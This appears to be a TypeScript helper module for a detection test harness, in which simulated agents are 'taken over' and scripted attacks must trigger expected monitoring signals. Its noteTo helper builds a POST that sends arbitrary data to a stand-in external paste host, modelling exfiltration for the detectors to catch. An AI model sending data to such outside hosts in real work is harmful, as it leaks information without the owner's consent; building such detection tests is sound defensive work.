import type { Step } from '../agent.ts';
import type { Random } from '../random.ts';
import { dayMs, hourMs } from '../workforce.ts';

/** Something that is planted in the week. Agents that were taken over do all else as before. */
export interface Attack {
  readonly name: string;
  /** At least one of its calls must raise at least one of these. */
  readonly expected: readonly Expected[];
  readonly acts: readonly Act[];
}

export interface Expected {
  readonly signal: string;
  /** What its details must say. */
  readonly details?: RegExp;
  /** Another signal, without which it says nothing. */
  readonly beside?: string;
}

/** What one agent does of it, by name, and when that begins. */
export interface Act {
  readonly agent: string;
  /** Since the week began. */
  readonly atMs: number;
  readonly steps: readonly Step[];
}

const weekdays = ['monday', 'tuesday', 'wednesday', 'thursday', 'friday'] as const;

/** `at('thursday', '15:05')` */
export function at(day: (typeof weekdays)[number], time: string): number {
  const [hour = 0, minute = 0] = time.split(':').map(Number);
  return weekdays.indexOf(day) * dayMs + hour * hourMs + minute * 60_000;
}

/** A step without the pause before it. */
export type Deed = Omit<Step, 'afterMs'>;

export const after = (afterMs: number, deed: Deed): Step => ({ ...deed, afterMs });

export const once = (deed: Deed): readonly Step[] => [after(0, deed)];

/** So many deeds, with about so much time between them. */
export const repeated = (
  random: Random,
  count: number,
  pauseMs: number,
  deed: (number: number) => Deed,
): readonly Step[] =>
  Array.from({ length: count }, (_, number) => {
    const ownMs = Math.round(pauseMs * (0.8 + 0.4 * random.fraction()));
    return after(number === 0 ? 0 : ownMs, deed(number));
  });

/** A host that takes notes of anybody. */
export const noteTo = (note: string): Deed => ({
  method: 'POST',
  url: 'https://notes.quickshare.example/api/notes',
  body: { note },
});
